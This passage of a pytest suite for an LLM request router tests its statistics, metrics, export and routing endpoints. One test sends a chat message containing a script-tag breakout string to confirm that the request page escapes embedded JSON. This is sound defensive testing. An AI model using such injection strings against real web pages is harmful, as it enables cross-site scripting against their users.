        values = [row.duration_ms for row in inside]
        assert stats["latency_ms"]["p95"] == nearest_rank(values, 95)
        assert [point["id"] for point in doc["data_points"]] == sorted(row.id for row in inside)
        for some, wanted in ((doc, {}), (by_service, {"service_type": "ollama"}),
                             (one_model, {"sent_model": "m1"})):  # fmt: skip
            its = [r for r in inside if all(getattr(r, k) == v for k, v in wanted.items())]
            tallies = collections.Counter(row.sent_model for row in its)
            assert {one["model"]: one["requests"] for one in some["models"]} == tallies
            assert some["meta"]["total_points"] == len(some["data_points"]) == len(its)
            assert sum(one["errors"] for one in some["models"]) == sum(row.failed for row in its)
        assert page.count(b"\n") == 1 + count
        assert last_hour["requests"] == sum(age < 60 for age in ages)


def test_a_window_knows_no_row_of_the_future(log_folder: LogFolder) -> None:
    """A clock that was ahead has written it; ids stay ahead after it is put right."""
    store = make_store(log_folder.file.parent)
    old = make_row(1, 2)
    first = make_row(2, -30)
    rows = [old, first]
    for number, days in ((3, 0), (4, 10)):
        row = make_row(number, days)
        rows.append(row._replace(id=first.id + 64 * number))
    store.write(rows, [], smolrouter.sum_rows(rows))
    with log_folder.router() as router:
        stats = get_document(router, "/api/stats")
        assert (stats["recent_requests"], stats["requests_per_hour"][-1]) == (1, 1)
        for query in ("", "?model=made", "?service_type=openai"):
            doc = get_document(router, f"/api/performance{query}")
            assert [point["id"] for point in doc["data_points"]] == [rows[2].id]
            assert doc["models"][0]["requests"] == 1
        got = request(router.port, "GET", "/api/export?since=24h&format=csv")
        assert got.content.count(b"\n") == 2
        # What is too old goes by its time, too.
        assert wait_until(
            lambda: (
                [row["id"] for row in get_document(router, "/api/logs")]
                == [rows[2].id, first.id, old.id]
            )
        )
    store.close()


def figures_of(router: Router, model: str) -> list[tuple[Any, Any]]:
    """Return requests and failures of a model as each place tells them, which is to be the same."""
    doc = get_document(router, f"/api/performance?model={model}")
    points = [point["failed"] for point in doc["data_points"] if point["model"] == model]
    rows = get_document(router, f"/api/logs?model={model}")
    lists = [get_document(router, f"/api/logs?model={model}&status={s}") for s in ("2xx", "error")]
    text = request(router.port, "GET", "/metrics").content.decode()

    def count(name: str) -> int:
        pattern = rf'^smolrouter_{name}_total\{{.*model="{model}".*\}} (\d+)$'
        return sum(map(int, re.findall(pattern, text, re.MULTILINE)))

    return [
        *((one["requests"], one["errors"]) for one in doc["models"]),
        (len(points), sum(points)),
        (len(rows), sum(row["failed"] for row in rows)),
        (len(lists[0]) + len(lists[1]), len(lists[1])),
        (count("requests"), count("errors")),
    ]


def test_a_failure_is_one_everywhere(log_folder: LogFolder) -> None:
    """A stream that ends with an error began with the status 200."""
    error = encode_event({"error": {"message": "no memory", "code": 500}})
    said = [*map(encode_event, TWO_WORDS), error]
    broken = default_upstream().add_script(sse_response(said))
    refused = default_upstream().add_script(json_response({"error": "no"}, 500))
    with log_folder.router() as router:
        for model in (broken, refused, "well"):
            post_chat(router, model, stream=True)
        assert log_folder.wait_for_rows(3) == 3
        row = wait_for_row(router, broken)
        assert (row["status_code"], row["error_message"]) == (200, "no memory")
        for model, failures in ((broken, 1), (refused, 1), ("well", 0)):
            assert figures_of(router, model) == [(1, failures)] * 5
        stats = get_document(router, "/api/stats")
        assert stats["error_rate"] == pytest.approx(2 / 3)
        (server,) = get_document(router, "/api/upstreams")
        assert (server["requests"], server["errors"]) == (3, 2)


@pytest.mark.parametrize("api", ["openai", "ollama"])
def test_what_only_loads_a_model_is_a_row_and_no_point(log_folder: LogFolder, api: str) -> None:
    """The answer is the router's own, or that of a server which speaks Ollama itself."""
    loaded = json_response({"model": "m", "done": True, "done_reason": "load"})
    model = default_upstream().add_script(loaded)
    servers = {
        "box": {"url": default_upstream().url, "api": api},
        "off": {"url": "http://127.0.0.1:9", "api": api},
    }
    with Router(log_folder.settings, {"servers": servers}) as router:
        for path in ("/api/generate", "/api/chat"):
            got = request(router.port, "POST", path, {"model": f"{model} [box]", "stream": False})
            assert (got.status, got.json["done_reason"]) == (200, "load")
        assert log_folder.wait_for_rows(2) == 2
        rows = get_document(router, "/api/logs")
        assert [(row["status_code"], row["failed"]) for row in rows] == [(200, False)] * 2
        doc = get_document(router, "/api/performance")
        assert (doc["data_points"], doc["models"], doc["meta"]["total_points"]) == ([], [], 0)
        stats = get_document(router, "/api/stats")
        assert (stats["total_requests"], stats["recent_requests"]) == (2, 2)
        metrics = request(router.port, "GET", "/metrics").content.decode()
        assert re.search(r'requests_total\{.*,model="",.*\} 2', metrics)
        # One that fails is a failure like any other. The router's own answer needs no server.
        got = request(router.port, "POST", "/api/generate", {"model": "lost [off]"})
        assert log_folder.wait_for_rows(3) == 3
        failures = int(api == "ollama")
        assert got.status == (502 if failures else 200)
        assert get_document(router, "/api/stats")["total_requests"] == 3
        models = get_document(router, "/api/performance")["models"]
        assert [(one["model"], one["errors"]) for one in models] == [("lost", 1)] * failures
        assert len(get_document(router, "/api/logs?status=error")) == failures


def test_points_and_sums_have_a_model_that_was_never_sent(log_folder: LogFolder) -> None:
    store = make_store(log_folder.file.parent)
    rows = [
        make_row(1, sent_model="", mapped_model="mine", failed=1, status_code=499),
        make_row(2, sent_model="mine", mapped_model="other"),
        make_row(3, sent_model="", mapped_model="other"),
        make_row(4, sent_model="", mapped_model="", level=None),
    ]
    store.write(rows, [], smolrouter.sum_rows(rows))
    store.close()
    with log_folder.router() as router:
        for model, count in (("mine", 2), ("other", 1), ("nobody", 0)):
            doc = get_document(router, f"/api/performance?model={model}")
            assert len(doc["data_points"]) == count
            assert sum(one["requests"] for one in doc["models"]) == count
        # One without a model is counted, and is no point.
        doc = get_document(router, "/api/performance")
        assert (len(doc["data_points"]), doc["meta"]["total_points"]) == (3, 3)
        assert {one["model"] for one in doc["models"]} == {"mine", "other"}
        assert get_document(router, "/api/stats")["recent_requests"] == 4


def nearest_rank(values: Iterable[float | None], percent: int) -> float:
    """Return the smallest value that has at least so many percent at or below it."""
    some = [value for value in values if value is not None]
    return min(one for one in some if sum(v <= one for v in some) * 100 >= percent * len(some))


def test_percentiles_of_few_requests_are_exact(log_folder: LogFolder) -> None:
    store = make_store(log_folder.file.parent)
    tallies = {}
    rows = []
    for number in range(60):
        more = {
            "sent_model": "once" if number == 7 else "often",
            "duration_ms": 1.1 * number**2 + 1,
            "ttft_ms": number / 3 if number % 2 else None,
        }
        rows.append(make_row(number, 0, **more))
        smolrouter.add_row(tallies, rows[-1])
    store.write(rows, [], tallies)

    def wrong(doc: Mapping[str, Any], some: list[Any]) -> list[str]:
        parts = {
            "p50_ms": ("duration_ms", 50),
            "p95_ms": ("duration_ms", 95),
            "ttft_p50_ms": ("ttft_ms", 50),
        }
        return [
            name
            for name, (column, percent) in parts.items()
            if doc[name] != nearest_rank([getattr(row, column) for row in some], percent)
        ]

    with log_folder.router() as router:
        stats = get_document(router, "/api/stats")
        for name, column in (("latency_ms", "duration_ms"), ("ttft_ms", "ttft_ms")):
            values = [getattr(row, column) for row in rows]
            assert stats[name] == {f"p{n}": nearest_rank(values, n) for n in (50, 95, 99)}
        for query in ("", "?limit=10", "?model=once", "?service_type=openai"):
            for doc in get_document(router, f"/api/performance{query}")["models"]:
                its = [row for row in rows if row.sent_model == doc["model"]]
                assert not wrong(doc, its), query
        assert len(get_document(router, "/api/performance?limit=10")["data_points"]) == 10
        store.db.execute("DELETE FROM requests WHERE id < ?", (rows[30].id,))
        for at, known in (("/api/stats", "latency_ms"), ("/api/performance?model=often", "")):
            # What is left of the rows does not speak for all requests, so the rollups do.
            doc = get_document(router, at)
            p50 = doc[known]["p50"] if known else doc["models"][0]["p50_ms"]
            assert 512 < p50 < 1449 and p50 != nearest_rank(
                [row.duration_ms for row in rows[30:]], 50
            )
    store.close()


@pytest.mark.parametrize("query, total", [
    ("hours=168&limit=5000", 4000), ("hours=168&limit=2000", 4000), ("hours=168&limit=100", 4000),
    ("hours=168&limit=100&model=model-1", 1000), ("hours=168&limit=100&service_type=ollama", 1334),
    ("hours=168&limit=3000&service_type=ollama", 1334), ("hours=168&limit=7", 4000),
    ("hours=168&model=nobody", 0),
])  # fmt: skip
def test_performance_is_sampled_evenly(query: str, total: int) -> None:
    doc = get_document(router_with_old_log(), f"/api/performance?{query}")
    limit = int(dict(urllib.parse.parse_qsl(query)).get("limit", 2000))
    points = doc["data_points"]
    meta = doc["meta"]
    assert meta["sampled"] == (total > limit) and meta["total_points"] == total
    assert min(total, limit) * 0.5 <= len(points) <= limit
    if total <= limit:
        assert len(points) == total
    moments = [point["timestamp"] for point in points]
    assert moments == sorted(moments) and all(map(MOMENT.fullmatch, moments))
    # Each third of the time has its share: no end was cut off.
    if total > limit >= 100:
        thirds = [0, 0, 0]
        ids = [point["id"] for point in points]
        low = (int(time.time() * 1000) - 3 * 86_400_000) * 1024
        for number in ids:
            thirds[min(2, (number - low) * 3 // (3 * 86_400_000 * 1024))] += 1
        assert min(thirds) > len(points) / 6
    assert sum(model["requests"] for model in doc["models"]) == total
    for model in doc["models"]:
        assert model["prompt_tokens"] == 5 * model["requests"]
        assert model["p50_ms"] <= model["p95_ms"]
    for point in points[:20]:
        assert point["total_tokens"] == 11 and point["tokens_per_second"] > 0


def test_no_query_walks_the_log(tmp_path: pathlib.Path) -> None:
    with contextlib.closing(make_store(tmp_path).open()) as db:

        def plan(sql: str, values: Any) -> list[str]:
            return [row[3] for row in db.execute(f"EXPLAIN QUERY PLAN {sql}", values)]

        whole = {"model": "m", "source": "s", "upstream": "u", "service_type": "openai"}
        asked = [
            {},
            {"before": 5},
            {"q": ["x"]},
            {"q": ["x", "y"]},
            whole,
            *({name: whole[name]} for name in whole),
        ]
        asked += [{**one, "status": smolrouter.parse_status(text)}
                  for one in asked for text in ("404", "4xx", "200", "error")]  # fmt: skip
        for one in asked:
            for step in plan(*smolrouter.select_rows(one)):
                assert not step.startswith("SCAN requests"), (one, step)
                assert "TEMP B-TREE" not in step, (one, step)

        window = smolrouter.Window.of(3600, time.time())

        def plans(function: Callable[..., Any], *args: Any) -> list[str]:
            """Return the plans of the statements that a function runs; none walks the log."""
            seen: list[str] = []
            db.set_trace_callback(seen.append)
            function(*args)
            db.set_trace_callback(None)
            steps = [step for sql in seen for step in plan(sql, ())]
            assert steps and not [s for s in steps if s.startswith("SCAN requests")], seen
            return steps

        for given in (
            {},
            {"model": "m"},
            {"service_type": "o"},
            {"model": "m", "service_type": "o"},
        ):
            for level in range(12):
                steps = plans(smolrouter.read_points, db, window, level, given)
                # The few rows that match are found in their index.
                index = "by_sent" if "model" in given else "by_service" if given else "by_time"
                assert f"USING INDEX {index if level < 3 else 'sample'} " in steps[0].replace(
                    "COVERING ", ""
                )
            for group in ("model", "service_type"):
                plans(smolrouter.read_tallies, db, window, group, given)
        plans(smolrouter.read_times, db, window)
        plans(smolrouter.read_last_hour, None, db, "http://box:1")
        for one in smolrouter.SPANS:
            db.set_trace_callback(None)
            steps = plans(smolrouter.read_histogram, None, db, {"span": one})
        plans(smolrouter.export_page, make_store(tmp_path), db, {"since": 3600.0})


def test_figures_over_time_are_those_of_the_rows() -> None:
    """The histogram, the leaderboard, hours and days against the rows that they sum up."""
    router = router_with_old_log()
    rows: list[dict[str, Any]] = []
    while page := get_document(
        router, f"/api/logs?limit=1000&before={rows[-1]['id'] if rows else ''}"
    ):
        rows += page
    moments = [
        datetime.datetime.fromisoformat(row["timestamp"][:-1] + "+00:00").timestamp() * 1000
        for row in rows
    ]
    for span, number in (("1h", 60), ("24h", 24), ("7d", 56)):
        bars = get_document(router, f"/api/histogram?span={span}")["bars"]
        assert len(bars) == number
        for bar in bars:
            inside = [row for row, at in zip(rows, moments) if bar["begin"] <= at < bar["end"]]
            failed = sum(row["failed"] for row in inside)
            assert (bar["answered"], bar["failed"]) == (len(inside) - failed, failed), (span, bar)
    trends = get_document(router, "/api/trends?hours=168")
    leaders = {one["model"]: one for one in trends["leaders"]}
    assert set(leaders) == {f"model-{number}" for number in range(4)}
    for model, leader in leaders.items():
        number = int(model[-1])
        of_model = [
            row
            for row in rows
            if row["original_model"] == model or (number == 0 and row["original_model"] == "nick")
        ]
        assert leader["requests"] == len(of_model)
        assert leader["errors"] == sum(row["failed"] for row in of_model)
        assert leader["upstream_url"] == "http://box:1"
    assert sum(hour["requests"] for hour in trends["hours"]) == 4000
    assert len(trends["hours"]) == 2 * 168
    assert not get_document(router, "/api/trends?upstream=http://no")["leaders"]
    assert get_document(router, "/api/trends?upstream=box:1&model=model-1")["leaders"]
    week_ago = get_document(router, "/api/trends?hours=1")["leaders"]
    assert all(one["before"]["tokens_per_second"] for one in week_ago)


# --- live events, one request, servers and routes -------------------------------------

RUNNING_NAMES = re.findall(
    r"\w+",
    """id request_id timestamp source_ip path service_type phase
    original_model mapped_model sent_model upstream_url elapsed_ms tokens bytes ttft_ms""",
)


def test_events_tell_what_happens() -> None:
    model = default_upstream().add_script(
        [
            *stream_response([encode_event(text_delta("a ")), 0.4, encode_event(text_delta("b "))]),
        ]
    )
    with connect(logging_router().port) as sock:
        sock.sendall(encode_request("GET", "/api/events"))
        heard = b""
        while b"hello" not in heard:
            heard += sock.recv(65536)
        post_chat(logging_router(), model, stream=True)
        number = wait_for_row(logging_router(), model)["id"]

        def news() -> dict[str, list[Any]]:
            nonlocal heard
            heard += sock.recv(65536)
            found: dict[str, list[Any]] = {"started": [], "first_token": [], "finished": []}
            for text in re.findall(rb"event: requests\ndata: (\{.*\})\n\n", heard):
                for name, rows in json.loads(text).items():
                    found[name] += rows
            return found

        sock.settimeout(PATIENCE)
        found = news()
        while number not in [row["id"] for row in found["finished"]]:
            found = news()
        assert b"text/event-stream" in heard
        started = [row for row in found["started"] if row["id"] == number]
        assert len(started) == 1 and started[0]["original_model"] == model
        assert sorted(started[0]) == sorted(RUNNING_NAMES)
        assert number in found["first_token"]
        done = [row for row in found["finished"] if row["id"] == number]
        assert len(done) == 1 and sorted(done[0]) == sorted(ROW_NAMES)


def test_draining_ends_the_events(log_folder: LogFolder) -> None:
    with log_folder.router() as router, connect(router.port) as sock:
        sock.sendall(encode_request("GET", "/api/events"))
        wait_until(lambda: b"hello" in sock.recv(65536))
        begun = time.monotonic()
        assert router.stop() == 0 and time.monotonic() - begun < 5


def test_request_page_carries_its_data() -> None:
    text = "</script><!-- <script> \u2028"
    post_chat(logging_router(), "inline", text)
    number = wait_for_row(logging_router(), "inline")["id"]
    got = request(logging_router().port, "GET", f"/request/{number}")
    assert (got.status, got.get("Content-Type")) == (200, "text/html; charset=utf-8")
    match = re.search(
        rb'<script type="application/json" id="request-data">(.*?)</script>', got.content, re.S
    )
    assert match and b"<" not in match[1]
    assert json.loads(match[1]) == get_document(logging_router(), f"/api/request/{number}")
    assert json.loads(match[1])["transcript"][0]["content"] == text


def test_upstreams_say_how_they_are() -> None:
    routes = {
        "servers": {"off": "http://127.0.0.1:9", "box": default_upstream().url},
        "aliases": {"either": {"instances": ["off/tiny", "box/other"]}},
    }
    settings = {"DEFAULT_UPSTREAM": default_upstream().url, "WEBUI_SECURITY": "NONE"}
    with Router(settings, routes) as router:
        post_chat(router, "up")
        post_chat(router, "either")
        wait_for_row(router, "either")
        times = [row["duration_ms"] for row in get_document(router, "/api/logs")]
        found = {doc["name"]: doc for doc in get_document(router, "/api/upstreams")}
    assert found["box"]["state"] == "up" and found["off"]["state"] == "down"
    assert "refused" in found["off"]["last_error"]
    assert found["off"]["failures"] >= 1 and found["box"]["failures"] == 0
    assert found["box"]["requests"] == 2 and found["box"]["p50_ms"] == min(times)
    assert "tiny" in found["box"]["models"] and found["off"]["models"] == []
    assert (found["box"]["url"], found["box"]["api"]) == (default_upstream().url, "openai")


def test_a_server_is_asked_for_by_its_name() -> None:
    post_chat(logging_router(), "by-name")
    number = wait_for_row(logging_router(), "by-name")["id"]
    place = default_upstream().url.partition("://")[2]
    for text in ("box", default_upstream().url, place):
        assert number in [
            row["id"] for row in get_document(logging_router(), f"/api/logs?upstream={text}")
        ]
    assert get_document(logging_router(), "/api/logs?upstream=off") == []


def test_routes_explain_themselves() -> None:
    doc = get_document(logging_router(), "/api/routes?model=asked-for&source_host=10.1.2.3")
    assert [server["name"] for server in doc["servers"]] == ["off", "box"]
    assert doc["aliases"][0]["name"] == "either"
    assert doc["routes"] == [
        {"rule": "routes[0]", "match": "model asked-for", "route": "box/sent"},
        {"rule": "routes[1]", "match": "model friend", "route": "alias either"},
    ]
    decision = doc["decision"]
    assert decision["trail"][-1]["matched"] and decision["route"] == "routes[0]"
    assert decision["instances"] == [
        {"server": "box", "url": default_upstream().url, "model": "sent"}
    ]
    assert decision["source_host"] == "10.1.2.3"
    assert "decision" not in get_document(logging_router(), "/api/routes")


# --- metrics and export ---------------------------------------------------------------


def test_metrics_are_well_formed() -> None:
    post_chat(logging_router(), 'quo"te\\')
    post_chat(logging_router(), "measured", stream=True)
    wait_for_row(logging_router(), "measured")
    got = request(logging_router().port, "GET", "/metrics")
    assert got.get("Content-Type").startswith("text/plain; version=0.0.4")
    text = got.content.decode()
    kinds = {}
    samples = {}
    label = r'[a-z]+="(?:[^"\\\n]|\\["\\n])*"'
    for line in text.splitlines():
        if line.startswith("# TYPE "):
            _, _, name, kind = line.split(" ")
            assert name not in kinds and f"# HELP {name} " in text
            kinds[name] = kind
        elif not line.startswith("# HELP "):
            match = re.fullmatch(rf"([a-z_]+)(?:\{{({label}(?:,{label})*)\}})? ([0-9.e+]+)", line)
            assert match, line
            family = next(n for n in kinds if re.fullmatch(rf"{n}(_bucket|_sum|_count)?", match[1]))
            assert (kinds[family] == "counter") == match[1].endswith("_total")
            assert (match[1], match[2]) not in samples
            samples[match[1], match[2]] = float(match[3])
    wanted = f'service="openai",model="measured",upstream="{default_upstream().url}"'
    assert samples["smolrouter_requests_total", wanted] == 1
    assert samples["smolrouter_completion_tokens_total", wanted] == 3
    counts = [
        value
        for (name, labels), value in samples.items()
        if name == "smolrouter_duration_seconds_bucket" and labels.startswith(wanted)
    ]
    assert counts == sorted(counts) and counts[-1] == 1
    assert samples["smolrouter_ttft_seconds_count", wanted] == 1
    promtool = shutil.which("promtool")
    if promtool:
        subprocess.run([promtool, "check", "metrics"], input=got.content, check=True)


def test_export_in_every_form(log_folder: LogFolder) -> None:
    model = default_upstream().add_script(
        sse_response([text_delta("<think>hm</think>Yes"), finish_delta(), "[DONE]"])
    )
    failing = default_upstream().add_script(json_response({"error": "no"}, 500))
    with log_folder.router() as router:
        post_chat(router, model, 'one, "two"', stream=True)
        post_chat(router, failing)
        request(router.port, "POST", "/v1/embeddings", {"model": "vectors", "input": "x"})
        log_folder.wait_for_rows(3)
        settings = {name: str(value) for name, value in log_folder.settings.items()}
        for form in ("jsonl", "csv", "openai"):
            got = request(router.port, "GET", f"/api/export?format={form}&since=1h")
            assert got.status == 200 and "attachment" in got.get("Content-Disposition")
            done = run_program("export", "--format", form, "--since", "1h", settings=settings)
            assert (done.returncode, done.stdout) == (0, got.content.decode())
            lines = done.stdout.splitlines()
            if form == "csv":
                rows = list(csv.DictReader(lines))
                assert list(rows[0]) == list(get_document(router, "/api/logs")[0])
                assert len(rows) == 3
                assert rows[-1]["original_model"] == model and rows[-1]["is_inflight"] == "False"
            elif form == "jsonl":
                assert [json.loads(line)["original_model"] for line in lines] == [
                    "vectors",
                    failing,
                    model,
                ]
                assert json.loads(lines[-1]) == wait_for_detail(router, model)
            else:
                assert [json.loads(line) for line in lines] == [
                    {
                        "messages": [
                            {"role": "user", "content": 'one, "two"'},
                            {"role": "assistant", "content": "Yes"},
                        ]
                    }
                ]
        got = request(router.port, "GET", f"/api/export?model={failing}")
        assert len(got.content.splitlines()) == 1
    bad = run_program("export", "--format", "xml", settings=settings)
    assert bad.returncode == 2 and "jsonl" in bad.stderr and bad.stderr.count("\n") == 1
    bad = run_program("export", settings={"DB_PATH": str(log_folder.file.parent / "none.db")})
    assert bad.returncode == 2 and "(DB_PATH=" in bad.stderr and "none.db" in bad.stderr
    bad = run_program("export", "--since", "banana", settings=settings)
    assert bad.returncode == 2 and "'banana': allowed is an age" in bad.stderr
    assert "DB_PATH" not in bad.stderr


@pytest.mark.parametrize("form", ["jsonl", "csv", "openai"])
def test_a_table_without_rows_has_its_head(log_folder: LogFolder, form: str) -> None:
    settings = {name: str(value) for name, value in log_folder.settings.items()}
    with log_folder.router() as router:
        got = request(router.port, "GET", f"/api/export?format={form}")
        done = run_program("export", "--format", form, "--model", "nobody", settings=settings)
    assert (got.status, done.returncode) == (200, 0) and got.content.decode() == done.stdout
    names = ",".join(smolrouter.TABLE_COLUMNS)
    assert done.stdout == (f"{names}\n" if form == "csv" else "")


def test_export_is_streamed() -> None:
    got = request(router_with_old_log().port, "GET", "/api/export?format=csv")
    assert got.content.count(b"\n") == 4001 and len(got.pieces) > 5


# --- long answers that nobody reads ---

# A body that is more than the kernel takes for a client that reads nothing.
LONG_BODY = 12 * 2**20


@contextlib.contextmanager
def router_with_long_row(**limits: float) -> Iterator[tuple[Router, str]]:
    """Start a router whose log has a request with a long answer, of this id, and a short one."""
    long = default_upstream().add_script(json_response(completion({}, "x" * LONG_BODY)))
    settings = {
        "DEFAULT_UPSTREAM": default_upstream().url, "WEBUI_SECURITY": "NONE",
        "MAX_BLOB_SIZE": 2 * LONG_BODY,
    }  # fmt: skip
    with Router(settings, limits=limits) as router:
        post_chat(router, long)
        row = wait_for_row(router, long)
        post_chat(router, "tiny")
        wait_for_row(router, "tiny")
        yield router, str(row["id"])


def ask_and_stall(router: Router, path: str) -> socket.socket:
    """Ask for a path and read nothing of the answer but its status, which must be good."""
    sock = connect(router.port)
    sock.sendall(encode_get(path))
    assert sock.recv(12) == b"HTTP/1.1 200"
    return sock


@pytest.mark.parametrize("path", ["/api/request/{id}", "/request/{id}", "/api/export"])
def test_answers_that_nobody_reads_have_one_budget(path: str) -> None:
    with router_with_long_row(unread_answers=2**20) as (router, number):
        path = path.format(id=number)
        whole = request(router.port, "GET", path)
        assert (whole.status, whole.whole, len(whole.content) > LONG_BODY) == (200, True, True)
        with ask_and_stall(router, path):
            got = request(router.port, "GET", path)
            assert got.status == 503 and got.get("Retry-After") == "5"
            assert b"answers that no client has taken yet hold" in got.content
            # What is short is answered all the same.
            for short in ("/", "/api/logs", "/metrics", "/healthz", "/api/export?model=tiny"):
                assert request(router.port, "GET", short).status == 200
            assert post_chat(router, "tiny").status == 200
        # The client has left.
        assert wait_until(lambda: request(router.port, "GET", path).status == 200)


def test_every_long_answer_counts() -> None:
    limits = {"unread_answers": 2**20, "write_buffer": 300}
    with (
        router_with_long_row(**limits) as (router, number),
        ask_and_stall(router, f"/api/request/{number}") as stalled,
    ):
        for path in ("/api/logs", "/api/performance", "/metrics", "/performance"):
            assert request(router.port, "GET", path).status == 503, path
        assert request(router.port, "GET", "/healthz").status == 200
        # When it is read to its end there is room again.
        head, _, content = read_until(stalled, b"\r\n\r\n").partition(b"\r\n\r\n")
        unread = int(re.search(rb"Content-Length: ([0-9]+)", head)[1]) - len(content)
        while unread:
            unread -= len(stalled.recv(min(unread, 1 << 20)))
        assert wait_until(lambda: request(router.port, "GET", "/api/logs").status == 200)


def test_an_export_goes_on_when_there_is_room_again() -> None:
    with router_with_long_row(unread_answers=2**20, export_page=1) as (router, number):
        stalled = ask_and_stall(router, f"/api/request/{number}")
        with connect(router.port) as sock:
            sock.sendall(encode_get("/api/export"))
            # The newest row is short and comes at once, the long one waits.
            data = read_until(sock, b'"original_model":"tiny"')
            sock.settimeout(0.8)
            with contextlib.suppress(TimeoutError):
                while len(data) < LONG_BODY:
                    data += sock.recv(1 << 20)
            assert len(data) < 2**20
            stalled.close()
            sock.settimeout(PATIENCE)
            while not data.endswith(b"\r\n0\r\n\r\n"):
                data += sock.recv(1 << 20)
        got = parse_response(data)
        assert got.whole and len(got.content) > LONG_BODY
        assert [json.loads(line)["response_size"] > 2**20 for line in got.events] == [False, True]


def test_an_export_reads_no_more_than_it_sends_at_once(log_folder: LogFolder) -> None:
    """Two hundred rows with long bodies would be gigabytes."""
    store = make_store(log_folder.file.parent)
    detail = smolrouter.Detail("{}", b"", b"x" * 400_000)
    data, blobs = smolrouter.pack_detail(detail, smolrouter.LIMITS.inline_body)
    records = [make_record(number) for number in range(9)]
    for record in records:
        record.data = data
        record.blobs = blobs
    store.write([], records, {})
    pages = []
    parameters: dict[str, Any] = {}
    while parameters.get("before", 1):
        page, parameters["before"] = smolrouter.export_page(store, store.open(), parameters)
        pages.append(page)
    store.close()
    assert max(map(len, pages)) < 3 * 2**20 and len(pages) >= 3
    ids = [json.loads(line)["id"] for line in b"".join(pages).splitlines()]
    assert ids == sorted(set(ids), reverse=True) and len(ids) == 9


@pytest.mark.parametrize("version", ["1.0", "1.1"])
@pytest.mark.parametrize("damage", ["error_message = CAST(x'ff' AS TEXT)", "attempts = 'x'"])
def test_an_export_that_fails_midway_is_cut(
    log_folder: LogFolder, damage: str, version: str
) -> None:
    """It has no second head in its content, and does not look complete."""
    store = make_store(log_folder.file.parent)
    store.write([], [make_record(number) for number in range(250)], {})
    store.open().execute(f"UPDATE requests SET {damage} WHERE id = (SELECT min(id) FROM requests)")
    store.close()
    with log_folder.router() as router:
        for form in ("csv", "jsonl"):
            target = f"/api/export?format={form}"
            head = f"GET {target} HTTP/{version}\r\nHost: a\r\nConnection: keep-alive\r\n\r\n"
            with connect(router.port) as sock:
                sock.sendall(head.encode() * 2)
                data = b""
                with contextlib.suppress(ConnectionResetError):
                    while piece := sock.recv(65536):
                        data += piece
                    # Without a framing only a reset tells that it is not whole.
                    assert version == "1.1"
            # The head may be lost by the reset; the next request has no answer.
            assert data.count(b"HTTP/1.1 ") <= 1 and not data.endswith(b"0\r\n\r\n")
            assert version == "1.0" or data.count(b"POST") >= 200


# ======================================================================================
# 16  Application
# ======================================================================================
# Which path means what. A new endpoint is tried here; section 10 finds it in ENDPOINTS by
# itself and asks it under every policy.


def test_long_paths_are_not_remembered() -> None:
    for path in ("/v1/" + "x" * 300, "/api/experimental/" + "y" * 300):
        before = smolrouter.remembered_endpoint.cache_info().currsize
        found = smolrouter.find_endpoint("POST", path)
        assert found.choose_endpoint(smolrouter.Fields([])) in found.of_path
        assert smolrouter.remembered_endpoint.cache_info().currsize == before


def test_router_answers_unknown_paths_itself() -> None:
    got = request(default_router().port, "GET", "/unknown/path")
    assert got.status == 404
    assert got.json["error"]
    assert not default_upstream().requests_for("/unknown/path")


@pytest.mark.parametrize("method", ("GET", "POST", "DELETE"))
@pytest.mark.parametrize("path", ("/nope", "/api/nope", "/v2/chat/completions", "/v1x"))
def test_unknown_path(method: str, path: str) -> None:
    body = chat_document("talk") if method == "POST" else None
    with nothing_sent_upstream():
        got = request(sdk_router().port, method, path, body)
    assert got.status == 404
    assert got.json["error"]


OTHER_NAMES = (
    # What a client asks for, and what its server is asked for.
    ("POST", "/chat/completions", "/v1/chat/completions"),
    ("POST", "/completions?x=%2F", "/v1/completions?x=%2F"),
    ("POST", "/embeddings", "/v1/embeddings"),
    ("POST", "/responses", "/v1/responses"),
    ("GET", "/responses/resp_1", "/v1/responses/resp_1"),
    ("POST", "/messages", "/v1/messages"),
    ("POST", "/messages/count_tokens", "/v1/messages/count_tokens"),
    ("POST", "/rerank", "/v1/rerank"),
    ("POST", "/audio/speech", "/v1/audio/speech"),
    ("POST", "/v1/v1/chat/completions", "/v1/chat/completions"),
    ("POST", "/v1//v1/v1/embeddings/", "/v1/embeddings"),
    ("GET", "/v1/v1/files/a", "/v1/files/a"),
    ("POST", "/v1/v10/x", "/v1/v10/x"),
    ("POST", "/v1/chat/completions/v1/x", "/v1/chat/completions/v1/x"),
)


@pytest.mark.parametrize("method, target, usual", OTHER_NAMES)
def test_other_names_of_a_path(method: str, target: str, usual: str) -> None:
    # An answer without the count would not be one of count_tokens.
    model = default_upstream().add_script(json_response({"input_tokens": 1}))
    body = {"model": model, "messages": []} if method == "POST" else None
    fields = [("X-Test", model)]
    got = request(default_router().port, method, target, body, fields)
    assert got.status == 200
    heard = [r for r in default_upstream().requests if r.get("X-Test") == model]
    assert [r.target for r in heard] == [usual]
    if body:
        assert wait_for_row(default_router(), model)["path"] == usual


@pytest.mark.parametrize("path", ("/models", "/models/tiny", "/v1/v1/models", "/v1/v1/models/tiny"))
def test_other_names_of_the_list_of_models(path: str) -> None:
    got = request(models_router().port, "GET", path)
    usual = f"/v1{path.removeprefix('/v1/v1')}"
    assert (got.status, got.json) == (200, get_document(models_router(), usual))
    wrong = request(models_router().port, "POST", f"/api{path}")
    assert wrong.status == 404


@pytest.mark.parametrize("base", ("", "/v1/v1", "/v1/"))
@each_openai
def test_openai_with_a_base_url_without_its_version(sdk: Sdk, base: str) -> None:
    sdk = dataclasses.replace(sdk, base=base)
    url = models_router().url
    asked = {"model": "rule-talk", "messages": HELLO_MESSAGES}
    whole = sdk.call(url, "chat.completions.create", **asked)
    assert whole.choices[0].message.content == HELLO_ANSWER
    parts = sdk.call(url, "chat.completions.create", **asked, stream=True)
    said = [part.choices[0].delta.content or "" for part in parts if part.choices]
    assert "".join(said) == HELLO_ANSWER
    assert sdk.call(url, "embeddings.create", model="rule-vectors", input="hi").data
    assert sdk.call(url, "responses.create", model="rule-respond", input="hi").output_text
    assert "talk" in [model.id for model in sdk.call(url, "models.list").data]
    assert sdk.call(url, "models.retrieve", "talk").id == "talk"


def test_another_name_of_a_path_is_guarded_alike() -> None:
    settings = {"API_SECURITY": "ALWAYS_AUTH", "JWT_SECRET": SECRET}
    router = router_filtering(**settings)
    for path in ("/models", "/chat/completions", "/v1/v1/models", "/v1/v1/x"):
        assert request(router.port, "GET", path).status == 401
    assert request(router.port, "GET", "/health").status == 200


def test_wrong_method_says_what_is_allowed() -> None:
    got = request(default_router().port, "GET", "/api/chat")
    assert got.status == 405
